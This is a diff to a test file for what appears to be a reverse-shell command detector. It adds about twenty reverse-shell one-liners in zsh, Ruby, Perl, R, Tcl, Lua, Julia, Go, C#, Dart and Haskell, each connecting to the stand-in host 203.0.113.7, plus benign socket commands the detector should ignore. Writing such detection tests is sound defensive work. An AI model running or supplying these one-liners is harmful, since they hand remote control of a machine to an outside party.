@@ -42,6 +42,69 @@ indicatorTable(commandReverseShell, {
       'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s',
     ),
     'socat in capitals': runs('socat', 'TCP:203.0.113.7:8443', 'EXEC:/bin/bash,pty,stderr'),
+    'zsh with a connection of its own': runs(
+      'zsh',
+      '-c',
+      'zmodload zsh/net/tcp; ztcp 203.0.113.7 443; zsh >&$REPLY 2>&$REPLY 0>&$REPLY',
+    ),
+    'zsh that runs each line': runs(
+      'zsh',
+      '-c',
+      'zmodload zsh/net/tcp;ztcp -l 443;while :;do ztcp -a $REPLY;while read -r c <&$REPLY;do eval $c >&$REPLY;done;done',
+    ),
+    'rcat with a shell': runs('rcat', 'connect', '-s', '/bin/bash', '203.0.113.7', '443'),
+    'socket with a program': runs('socket', '-qvp', '/bin/sh -i', '203.0.113.7', '443'),
+    'a shell of inetd': script('echo "x stream tcp nowait root /bin/sh sh" > /tmp/z; inetd -s /tmp/z'),
+    'code in the word of its option': script(
+      `ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("203.0.113.7",443))'`,
+    ),
+    'ruby over TLS': runs(
+      ...[
+        'ruby',
+        '-e',
+        'c=OpenSSL::SSL::SSLSocket.new(TCPSocket.new("203.0.113.7",443)).connect;while(l=c.gets);IO.popen(l.to_s,"r"){|i|c.print i.read}end',
+      ],
+    ),
+    'perl over TLS': runs(
+      'perl',
+      '-e',
+      '$c=IO::Socket::SSL->new(PeerAddr=>"203.0.113.7:443");while(sysread($c,$i,8192)){syswrite($c,`$i`);}',
+    ),
+    'R that runs each line': runs(
+      ...[
+        'R',
+        '-e',
+        "s<-socketConnection(host='203.0.113.7',port=443,open='r+');while(TRUE){writeLines(readLines(pipe(readLines(s,1))),s)}",
+      ],
+    ),
+    'Tcl that runs each line': script(
+      `echo 'set s [socket 203.0.113.7 443];while 1 {gets $s c;catch {exec sh -c $c} r;puts $s $r}' | tclsh`,
+    ),
+    'Lua with a socket': runs(
+      'lua',
+      '-e',
+      "t=require('socket').tcp();t:connect('203.0.113.7','443');os.execute('/bin/sh -i <&3 >&3 2>&3');",
+    ),
+    'Julia that runs each line': runs(
+      'julia',
+      '-e',
+      'using Sockets; s=connect("203.0.113.7", 443); while true; c=split(readline(s)); write(s, read(`$c`)); end',
+    ),
+    'Go by calls of the system': script(
+      `printf 'package main\nfunc main(){fd,_:=syscall.Socket(2,1,0);syscall.Connect(fd,a);syscall.Dup2(fd,0);syscall.Exec("/bin/sh",nil,nil)}' > /m.go; go run /m.go`,
+    ),
+    'a program of C# that it wrote': script(
+      `printf 'class A{static void Main(){var c=new TcpClient("203.0.113.7",443);var p=new Process();p.StartInfo.FileName="/bin/bash";p.Start();}}' > a.cs; mcs a.cs && mono a.exe`,
+    ),
+    'words of a shell that C# starts': script(
+      `echo 'class A{void Main(){p.FileName="/bin/bash";p.Arguments="-c \\"bash -i >& /dev/tcp/203.0.113.7/443 0>&1\\"";}}' > a.cs; mcs a.cs`,
+    ),
+    'a program of Dart that it wrote': script(
+      `printf 'main(){Socket.connect("203.0.113.7",443).then((s){s.listen((d){Process.start("/bin/bash",[]);});});}' > a.dart; dart run a.dart`,
+    ),
+    'a program of Haskell that it wrote': script(
+      `printf 'main = callCommand "nc -e /bin/sh 203.0.113.7 443"' > a.hs; runghc a.hs`,
+    ),
     'a program of Go that it wrote': script(
       `printf 'package main\nimport ("net";"os/exec")\nfunc main(){c,_:=net.Dial("tcp","203.0.113.7:443");s:=exec.Command("/bin/sh");s.Stdin=c;s.Stdout=c;s.Run()}' > /tmp/m.go; go run /tmp/m.go`,
     ),
@@ -86,6 +149,22 @@ indicatorTable(commandReverseShell, {
     }),
   },
   staysSilent: {
+    'zsh that asks whether somebody listens': runs('zsh', '-c', 'zmodload zsh/net/tcp; ztcp db 5432 && ztcp -c'),
+    'rcat that listens': runs('rcat', 'listen', '443'),
+    'a service of inetd that is no shell': script(
+      'echo "x stream tcp nowait root /usr/sbin/tftpd tftpd" > /tmp/z; inetd /tmp/z',
+    ),
+    'Tcl that reads from a service': script(`echo 'set s [socket db 5432]; gets $s line; puts $line' | tclsh`),
+    'Lua that asks a service and starts a program': runs(
+      'lua',
+      '-e',
+      "local t=require('socket').tcp(); t:connect('db',5432); os.execute('date')",
+    ),
+    'R that reads from a service': runs('R', '-e', "s<-socketConnection(host='db',port=80); print(readLines(s,1))"),
+    'a program of C# that it wrote': script(
+      `printf 'class A{static void Main(){var c=new TcpClient("db",5432);System.Console.WriteLine(c.Connected);}}' > a.cs; mcs a.cs`,
+    ),
+    'letters of options': runs('ruby', '-rsocket', '-ne', 'puts $_'),
     'a program of Go that asks whether somebody listens': script(
       `printf 'package main\nimport "net"\nfunc main(){_,e:=net.Dial("tcp","db:5432");if e!=nil{panic(e)}}' > /tmp/m.go; go run /tmp/m.go`,
     ),
